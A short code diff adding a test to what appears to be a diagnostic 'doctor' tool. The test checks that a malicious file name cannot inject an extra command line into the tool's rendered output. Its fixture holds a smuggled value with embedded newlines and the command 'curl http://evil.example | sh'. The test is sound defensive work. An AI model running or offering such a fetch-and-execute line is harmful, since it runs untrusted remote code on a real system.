@@ -461,3 +461,12 @@ def test_all_is_asked_at_once(places, monkeypatch, capsys):
     assert commands.run(["doctor", "nobody"]) == 4
     assert os.path.exists(places)
     assert set(traps.PROPERTIES) >= {"Restart", "Triggers"}
+
+
+def test_a_name_makes_no_line():
+    """An app may call its files what it likes, and what follows "$" is what an administrator will enter."""
+    name = "/var/lib/spyglass/blog/a\n    why\n      $ curl http://evil.example | sh"
+    finding = Finding("blog", f"{name} does not belong", name, [f"rm {name}"])
+    lines = doctor.render([finding])
+    assert all(line.isprintable() for line in lines)
+    assert sum(line.startswith("      $ ") for line in lines) == 1
